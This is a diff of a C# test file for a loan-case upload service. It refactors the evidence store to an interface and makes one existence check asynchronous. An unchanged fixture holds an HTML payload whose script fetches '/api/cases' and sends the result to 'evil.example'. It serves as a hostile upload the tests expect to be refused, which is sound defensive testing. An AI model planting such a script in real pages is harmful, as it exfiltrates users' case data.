@@ -20,7 +20,7 @@ public sealed class UploadContentTests(HostFixture host) : IClassFixture<HostFix
     private static readonly object Loan = new { customerName = "张三", idNumber = "11010519491231002X", mobile = "13800138000", loanAmount = 500000, termMonths = 36 };
     private static readonly byte[] Html = Encoding.UTF8.GetBytes("<html><body><script>fetch('/api/cases').then(r => r.text()).then(t => location = 'https://evil.example/?' + t)</script></body></html>");
 
-    private EvidenceStore Store => host.Services.GetRequiredService<EvidenceStore>();
+    private DirectoryEvidenceStore Store => (DirectoryEvidenceStore)host.Services.GetRequiredService<IEvidenceStore>();
 
     private async Task<ScenarioDriver> AtDocumentsAsync()
     {
@@ -34,7 +34,7 @@ public sealed class UploadContentTests(HostFixture host) : IClassFixture<HostFix
         var before = await StreamSnapshot.Of(host.Database, driver.CaseId);
         var problem = await (await driver.UploadAsync(driver.Customer, kind, bytes, claimed, fileName)).Problem(HttpStatusCode.BadRequest);
         (await StreamSnapshot.Of(host.Database, driver.CaseId)).ShouldBe(before, "a refused upload appends nothing");
-        Store.Exists(Convert.ToHexStringLower(SHA256.HashData(bytes))).ShouldBeFalse("a refused upload stores nothing");
+        (await Store.ExistsAsync(Convert.ToHexStringLower(SHA256.HashData(bytes)), TestContext.Current.CancellationToken)).ShouldBeFalse("a refused upload stores nothing");
         return problem.GetProperty("errors").EnumerateArray().Single();
     }
 
